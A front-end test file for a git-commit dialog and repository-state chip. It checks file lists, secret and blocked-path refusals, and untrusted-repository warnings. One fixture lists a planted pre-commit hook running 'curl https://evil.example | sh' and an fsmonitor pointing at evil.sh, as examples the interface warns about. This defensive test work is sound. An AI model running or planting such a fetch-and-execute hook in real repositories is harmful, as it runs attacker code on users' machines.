import { cleanup, screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it } from 'vitest'
import type { CommitPlan, RepoTrust, UserCommit, UserGitState as State } from '../../../../shared/api/userGit'
import { AppError } from '../../../../shared/errors'
import { renderWithProviders } from '../../test/render'
import { card } from '../chat/testData'
import { CommitToGitButton } from './CommitToGitButton'
import { UserGitState } from './UserGitState'

const trusted: RepoTrust = {
  trusted: true,
  reason: null,
  task: null,
  message: null,
  wouldRun: [],
  fingerprint: 'f1',
}

/** A repository task 2 created, with a planted fsmonitor and hook. */
const untrusted: RepoTrust = {
  trusted: false,
  reason: 'created',
  task: 2,
  message: 'This folder’s git repository was created by task 2.',
  wouldRun: [
    { what: 'core.fsmonitor', command: '/work/site/evil.sh' },
    { what: 'hook pre-commit', command: '/work/site/.git/hooks/pre-commit — curl https://evil.example | sh' },
  ],
  fingerprint: 'f2',
}

const repo = (patch: Partial<Extract<State, { repo: true }>> = {}): State => ({
  repo: true,
  branch: 'main',
  detached: false,
  unborn: false,
  head: 'abc1234',
  changedFiles: 3,
  stagedFiles: 1,
  ralphUntracked: 0,
  operation: null,
  trust: trusted,
  ...patch,
})

const plan = (patch: Partial<CommitPlan> = {}): CommitPlan => ({
  task: 1,
  branch: 'main',
  files: [
    { path: 'index.html', status: 'modified' },
    { path: 'hours.html', status: 'added' },
  ],
  leftOut: [
    { path: '.ralph/summary.md', reason: 'ralph-state' },
    { path: '.ralph/status.txt', reason: 'ralph-state' },
    { path: 'secrets.env', reason: 'ignored' },
  ],
  refusal: null,
  flagged: [],
  trust: trusted,
  ...patch,
})

const commitOf = (patch: Partial<UserCommit> = {}): UserCommit => ({
  task: 1,
  runId: 3,
  hash: 'f00ba47c0ffee0000000000000000000000000aa',
  shortHash: 'f00ba47',
  branch: 'main',
  subject: 'Greet the world',
  committedAt: Date.UTC(2026, 0, 2, 10, 30),
  state: 'on-branch',
  ...patch,
})

/** The button over a fake core whose database remembers the commits made (as the real one's SQLite does). */
function renderButton(handlers: Record<string, (input: unknown) => unknown> = {}, made: UserCommit[] = []) {
  return renderWithProviders(<CommitToGitButton projectId={7} card={card()} />, {
    'userGit.status': () => repo(),
    'userGit.commits': () => ({ commits: made }),
    'userGit.previewCommit': () => plan(),
    'userGit.commitTask': () => {
      made.push(commitOf())
      return { hash: 'f00ba47', branch: 'main', files: ['hours.html', 'index.html'] }
    },
    ...handlers,
  })
}

const openDialog = async () => {
  await userEvent.click(await screen.findByRole('button', { name: 'Commit to my git' }))
  return screen.findByRole('dialog', { name: 'Commit to my git' })
}

describe('Commit to my git', () => {
  it('lists the task’s files and what stays out, starts from the title and summary, and commits the edited message', async () => {
    const view = renderButton()
    const dialog = await openDialog()
    const files = await within(dialog).findByRole('list', { name: 'Files to commit' })
    expect(
      within(files)
        .getAllByRole('listitem')
        .map((li) => li.getAttribute('aria-label')),
    ).toEqual(['index.html, modified', 'hours.html, added'])
    // Ralph's own files: a collapsed group of their own, not counted with the user's files.
    const own = within(dialog).getByTestId('commit-ralph-files')
    expect(own).not.toHaveAttribute('open')
    expect(own.querySelector('summary')).toHaveTextContent('Ralph’s own files (2, not committed)')
    expect(
      within(own)
        .getAllByRole('listitem', { hidden: true })
        .map((li) => li.textContent),
    ).toEqual(['.ralph/summary.md', '.ralph/status.txt'])
    expect(within(dialog).getByTestId('commit-left-out')).toHaveTextContent(
      'Left out, ignored by your git: secrets.env.',
    )
    expect(dialog).toHaveTextContent('on your branch main')
    expect(dialog).toHaveTextContent('nothing is pushed')
    expect(view.calls.find((c) => c.name === 'userGit.previewCommit')?.input).toEqual({
      projectId: 7,
      task: 1,
    })

    const box = within(dialog).getByRole('textbox', { name: 'Commit message' })
    expect(box).toHaveValue('Greeting\n\nThe heading now says Hello, world.\n')
    await userEvent.clear(box)
    await userEvent.type(box, 'Greet the world')
    await userEvent.click(within(dialog).getByRole('button', { name: 'Commit' }))

    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
    expect(view.calls.find((c) => c.name === 'userGit.commitTask')?.input).toEqual({
      projectId: 7,
      task: 1,
      message: 'Greet the world',
    })
    expect(await screen.findByText('Committed f00ba47 to main')).toBeInTheDocument()
    // The card shows the commit instead of the button from now on.
    expect(await screen.findByTestId('task-commit')).toHaveTextContent('Committed f00ba47')
    expect(screen.queryByRole('button', { name: 'Commit to my git' })).toBeNull()
  })

  it('shows a refusal in the dialog and keeps Commit disabled with the same reason', async () => {
    const reason =
      'Your repository is in the middle of a merge. Finish it or abort it (git merge --continue or --abort), then commit.'
    const view = renderButton({
      'userGit.previewCommit': () => plan({ refusal: { code: 'operation', message: reason, paths: [] } }),
    })
    const dialog = await openDialog()
    expect(await within(dialog).findByRole('alert')).toHaveTextContent(reason)
    const commit = within(dialog).getByRole('button', { name: 'Commit' })
    expect(commit).toHaveAttribute('aria-disabled', 'true')
    await userEvent.click(commit)
    expect(view.calls.some((c) => c.name === 'userGit.commitTask')).toBe(false)
    expect(screen.getByRole('dialog', { name: 'Commit to my git' })).toBeInTheDocument()
  })

  it('a refusal from the commit itself stays in the open dialog', async () => {
    renderButton({
      'userGit.commitTask': () => {
        throw new AppError('git', 'index.html has staged changes that are not this task’s.')
      },
    })
    const dialog = await openDialog()
    await within(dialog).findByRole('list', { name: 'Files to commit' })
    await userEvent.click(within(dialog).getByRole('button', { name: 'Commit' }))
    expect(await within(dialog).findByRole('alert')).toHaveTextContent(
      'index.html has staged changes that are not this task’s.',
    )
    expect(screen.getByRole('dialog', { name: 'Commit to my git' })).toBeInTheDocument()
  })

  it('an empty message disables Commit and says why', async () => {
    renderButton()
    const dialog = await openDialog()
    await within(dialog).findByRole('list', { name: 'Files to commit' })
    await userEvent.clear(within(dialog).getByRole('textbox', { name: 'Commit message' }))
    expect(within(dialog).getByRole('button', { name: 'Commit' })).toHaveAttribute('aria-disabled', 'true')
  })

  it('is offered only for a completed task in a git repository', async () => {
    const view = renderWithProviders(
      <>
        <CommitToGitButton projectId={7} card={card({ task: 1, status: 'failed' })} />
        <CommitToGitButton projectId={7} card={card({ task: 2, status: 'running' })} />
        <CommitToGitButton projectId={7} card={card({ task: 3 })} />
      </>,
      { 'userGit.status': () => repo(), 'userGit.commits': () => ({ commits: [] }) },
    )
    await screen.findByRole('button', { name: 'Commit to my git' })
    expect(screen.getAllByRole('button', { name: 'Commit to my git' })).toHaveLength(1)
    view.unmount()

    const plain = renderWithProviders(<CommitToGitButton projectId={7} card={card()} />, {
      'userGit.status': () => ({ repo: false }),
      'userGit.commits': () => ({ commits: [] }),
    })
    await waitFor(() =>
      expect(plain.queryClient.getQueryState(['userGit.status', { projectId: 7 }])?.status).toBe('success'),
    )
    expect(screen.queryByRole('button', { name: 'Commit to my git' })).toBeNull()
  })
})

describe('Commit to my git: refused files and an untrusted repository', () => {
  const flaggedPlan = () =>
    plan({
      files: [
        { path: '.env', status: 'added' },
        { path: 'src/config.js', status: 'modified' },
        { path: 'index.html', status: 'modified' },
      ],
      flagged: [
        {
          path: '.env',
          reason: 'blocked-path',
          detail: 'matches .env*, which verification blocks',
          allowed: false,
        },
        {
          path: 'src/config.js',
          reason: 'secret',
          detail: 'line 2: GitHub token (ghp_…5 (40 chars))',
          allowed: false,
        },
      ],
      refusal: {
        code: 'flagged',
        message: '.env, src/config.js are not committed',
        paths: ['.env', 'src/config.js'],
      },
    })

  it('lists each refused file and why, and commits only once every one is ticked, sending the ticked paths', async () => {
    const view = renderButton({ 'userGit.previewCommit': flaggedPlan })
    const dialog = await openDialog()
    const refused = await within(dialog).findByRole('region', { name: 'Refused files' })
    expect(refused).toHaveTextContent('Blocked path: matches .env*')
    expect(refused).toHaveTextContent('Secret: line 2: GitHub token (ghp_…5 (40 chars))')
    const commit = within(dialog).getByRole('button', { name: 'Commit' })
    expect(commit).toHaveAttribute('aria-disabled', 'true')
    await userEvent.click(within(refused).getByRole('checkbox', { name: 'Commit .env anyway' }))
    expect(commit).toHaveAttribute('aria-disabled', 'true')
    await userEvent.click(commit)
    expect(view.calls.some((c) => c.name === 'userGit.commitTask')).toBe(false)
    await userEvent.click(within(refused).getByRole('checkbox', { name: 'Commit src/config.js anyway' }))
    // Enabled, the button is a new element (no longer inside the reason's tooltip).
    const enabled = within(dialog).getByRole('button', { name: 'Commit' })
    expect(enabled).not.toHaveAttribute('aria-disabled')
    await userEvent.click(enabled)
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
    expect(view.calls.find((c) => c.name === 'userGit.commitTask')?.input).toEqual({
      projectId: 7,
      task: 1,
      message: 'Greeting\n\nThe heading now says Hello, world.\n',
      allow: ['.env', 'src/config.js'],
    })
  })

  it('says plainly which task created the repository and what would run, and commits only once confirmed', async () => {
    const view = renderButton({
      'userGit.status': () => repo({ trust: untrusted }),
      'userGit.previewCommit': () =>
        plan({
          trust: untrusted,
          refusal: { code: 'untrusted', message: `${untrusted.message} Confirm to commit.`, paths: [] },
        }),
    })
    const dialog = await openDialog()
    const warning = await within(dialog).findByTestId('commit-untrusted')
    expect(warning).toHaveTextContent('This folder’s git repository was created by task 2.')
    const list = within(warning).getByRole('list', { name: 'What it would run' })
    expect(
      within(list)
        .getAllByRole('listitem')
        .map((li) => li.getAttribute('aria-label')),
    ).toEqual([
      'core.fsmonitor: /work/site/evil.sh',
      'hook pre-commit: /work/site/.git/hooks/pre-commit — curl https://evil.example | sh',
    ])
    const commit = within(dialog).getByRole('button', { name: 'Commit' })
    expect(commit).toHaveAttribute('aria-disabled', 'true')
    await userEvent.click(
      within(warning).getByRole('checkbox', { name: /Commit without running any of these/ }),
    )
    await userEvent.click(within(dialog).getByRole('button', { name: 'Commit' }))
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
    expect(view.calls.find((c) => c.name === 'userGit.commitTask')?.input).toMatchObject({
      untrustedConfirmed: 'f2',
    })
  })

  it('the header says "Untrusted"; its dialog lists what would run and records the user’s trust', async () => {
    const view = renderWithProviders(<UserGitState projectId={7} />, {
      'userGit.status': () => repo({ trust: untrusted }),
      'userGit.trust': () => ({ ...untrusted, trusted: true, reason: null, task: null, message: null }),
    })
    const group = await screen.findByRole('group', { name: 'Your git' })
    expect(group).toHaveTextContent('main·3 changedUntrusted')
    await userEvent.click(within(group).getByRole('button', { name: 'Untrusted' }))
    const dialog = await screen.findByRole('dialog', { name: 'Untrusted git repository' })
    expect(dialog).toHaveTextContent('This folder’s git repository was created by task 2.')
    expect(within(dialog).getByRole('list', { name: 'What it would run' })).toHaveTextContent(
      'core.fsmonitor/work/site/evil.sh',
    )
    await userEvent.click(within(dialog).getByRole('button', { name: 'Trust this repository' }))
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
    expect(view.calls.find((c) => c.name === 'userGit.trust')?.input).toEqual({
      projectId: 7,
      fingerprint: 'f2',
    })
  })
})

describe('Commit, clicked twice', () => {
  it('commits once: the button is busy until the first call settles', async () => {
    let release!: () => void
    const view = renderButton({
      'userGit.commitTask': () =>
        new Promise((resolve) => {
          release = () => resolve({ hash: 'f00ba47', branch: 'main', files: ['index.html'] })
        }),
    })
    const dialog = await openDialog()
    await within(dialog).findByRole('list', { name: 'Files to commit' })
    const button = within(dialog).getByRole('button', { name: 'Commit' })
    await userEvent.dblClick(button)
    await waitFor(() => expect(button).toHaveAttribute('aria-busy', 'true'))
    expect(view.calls.filter((c) => c.name === 'userGit.commitTask')).toHaveLength(1)
    release()
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
    expect(view.calls.filter((c) => c.name === 'userGit.commitTask')).toHaveLength(1)
  })
})

describe('the card’s commit, as the database and the repository tell it', () => {
  it('a commit still on the branch: its short hash, and no button that would duplicate it', async () => {
    renderButton({}, [commitOf({ task: 2, shortHash: '1111111' }), commitOf()])
    expect(await screen.findByTestId('task-commit')).toHaveTextContent(/^Committed f00ba47$/)
    expect(screen.getByTestId('task-commit')).toHaveAttribute(
      'title',
      expect.stringMatching(/^Committed to main on .*: Greet the world$/),
    )
    expect(screen.queryByRole('button', { name: 'Commit to my git' })).toBeNull()
  })

  it('a commit reset away says so and offers committing again', async () => {
    renderButton({}, [commitOf({ state: 'off-branch' })])
    expect(await screen.findByTestId('task-commit')).toHaveTextContent(
      'Committed f00ba47 (no longer on this branch)',
    )
    expect(screen.getByRole('button', { name: 'Commit to my git' })).toBeEnabled()
  })

  it('a commit gone from the repository says so and offers committing again', async () => {
    renderButton({}, [commitOf({ state: 'missing' })])
    expect(await screen.findByTestId('task-commit')).toHaveTextContent(
      'Committed f00ba47 (no longer in your repository)',
    )
    expect(screen.getByRole('button', { name: 'Commit to my git' })).toBeInTheDocument()
  })

  it('another task’s commit does not count for this one', async () => {
    renderButton({}, [commitOf({ task: 2 })])
    expect(await screen.findByRole('button', { name: 'Commit to my git' })).toBeInTheDocument()
    expect(screen.queryByTestId('task-commit')).toBeNull()
  })
})

describe('the header’s repository state', () => {
  it('shows the branch and the changed-file count, and a merge in progress', async () => {
    renderWithProviders(<UserGitState projectId={7} />, {
      'userGit.status': () => repo({ operation: 'merge' }),
    })
    const group = await screen.findByRole('group', { name: 'Your git' })
    expect(group).toHaveTextContent('main·3 changedMerging')
  })

  it('says "clean" with no change, and in its tooltip that Ralph’s own files are not counted', async () => {
    renderWithProviders(<UserGitState projectId={7} />, {
      'userGit.status': () => repo({ changedFiles: 0, stagedFiles: 0 }),
    })
    const group = await screen.findByRole('group', { name: 'Your git' })
    expect(group).toHaveTextContent('main·clean')
    expect(group.getAttribute('title')).toContain('without Ralph’s own files (the project’s .ralph/ folder)')
    // The chip keeps room for its count: it never collapses to an empty pill in a crowded header.
    expect(group.style.minWidth).toMatch(/^min\(calc\(7ch/)
  })

  it('never says "clean" while git lists Ralph’s files, and offers to hide them only when asked', async () => {
    const user = userEvent.setup()
    const calls: string[] = []
    renderWithProviders(<UserGitState projectId={7} />, {
      'userGit.status': () =>
        calls.includes('excludeRalph')
          ? repo({ changedFiles: 0, stagedFiles: 0 })
          : repo({ changedFiles: 0, stagedFiles: 0, ralphUntracked: 13 }),
      'userGit.excludeRalph': () => {
        calls.push('excludeRalph')
        return { file: '/work/site/.git/info/exclude', line: '/.ralph/', added: true }
      },
    })
    const group = await screen.findByRole('group', { name: 'Your git' })
    expect(group).toHaveTextContent('main·.ralph/ untracked')
    expect(group.getAttribute('title')).toContain('13 files of Ralph’s own')
    await user.click(within(group).getByRole('button', { name: 'Hide .ralph/ from git status' }))
    const dialog = await screen.findByRole('alertdialog', { name: 'Hide .ralph/ from git status?' })
    expect(dialog).toHaveTextContent('13 files of Ralph’s own')
    expect(dialog).toHaveTextContent('Your .gitignore stays as it is')
    // Nothing is written until the user confirms.
    expect(calls).toEqual([])
    await user.click(within(dialog).getByRole('button', { name: 'Add to .git/info/exclude' }))
    await waitFor(() => expect(screen.queryByRole('alertdialog')).toBeNull())
    expect(calls).toEqual(['excludeRalph'])
    await waitFor(() =>
      expect(screen.getByRole('group', { name: 'Your git' })).toHaveTextContent('main·clean'),
    )
    expect(screen.queryByRole('button', { name: 'Hide .ralph/ from git status' })).toBeNull()
  })

  it('counts the user’s changes and says .ralph/ is listed too', async () => {
    renderWithProviders(<UserGitState projectId={7} />, {
      'userGit.status': () => repo({ changedFiles: 2, ralphUntracked: 4 }),
    })
    expect(await screen.findByRole('group', { name: 'Your git' })).toHaveTextContent(
      'main·2 changed + .ralph/',
    )
  })

  it('shows a detached HEAD and an unborn branch in words', async () => {
    renderWithProviders(<UserGitState projectId={1} />, {
      'userGit.status': () => repo({ detached: true, branch: null }),
    })
    expect(await screen.findByRole('group', { name: 'Your git' })).toHaveTextContent(
      'detached abc1234·3 changed',
    )
    cleanup()
    renderWithProviders(<UserGitState projectId={2} />, {
      'userGit.status': () => repo({ unborn: true, head: null }),
    })
    expect(await screen.findByRole('group', { name: 'Your git' })).toHaveTextContent('main·no commits yet')
  })

  it('shows nothing outside a git repository', async () => {
    const view = renderWithProviders(<UserGitState projectId={1} />, {
      'userGit.status': () => ({ repo: false }),
    })
    await waitFor(() =>
      expect(view.queryClient.getQueryState(['userGit.status', { projectId: 1 }])?.status).toBe('success'),
    )
    expect(screen.queryByRole('group', { name: 'Your git' })).toBeNull()
    expect(screen.queryByTestId('user-git-state')).toBeNull()
  })
})
